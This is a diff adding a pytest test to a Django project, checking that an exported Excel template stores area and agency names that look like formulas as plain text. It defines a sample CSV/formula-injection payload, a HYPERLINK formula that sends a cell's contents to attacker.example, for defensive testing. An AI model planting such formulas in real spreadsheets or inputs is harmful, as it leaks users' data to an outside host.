@@ -3,6 +3,7 @@
 import datetime
 import io
 import os
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -17,6 +18,7 @@ from maca.meetings.models import AuditTheme, Ratification
 from maca.partnerships.models import LibraryTheme
 from maca.reports.summary import report_summary
 from maca.returns.models import Return
+from tests import factories as f
 
 pytestmark = pytest.mark.django_db
 
@@ -114,6 +116,26 @@ def test_the_template_has_the_partnerships_agencies_and_areas(cast):
     ]
     instructions = " ".join(str(c.value) for c in workbook["Instructions"]["A"] if c.value)
     assert "East, North, Central" in instructions and "semicolons" in instructions
+
+
+HYPERLINK = '=HYPERLINK("https://attacker.example/?"&A3,"Open the guidance")'
+
+
+def test_a_name_that_reads_as_a_formula_is_text_in_the_template(cast):
+    # An area or agency named like a formula would have been live in Excel.
+    f.AreaFactory(partnership=cast, name=HYPERLINK, position=9)
+    f.AgencyFactory(partnership=cast, name="=1+1", position=9)
+
+    data = history_template(cast)
+
+    workbook = load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert HYPERLINK in [cell.value for cell in workbook["Lists"]["A"]]
+    assert workbook["Cases"]["E1"].value == "=1+1 grade"
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(name) for name in sheets)
 
 
 # --- Loading a filled template ------------------------------------------------------------
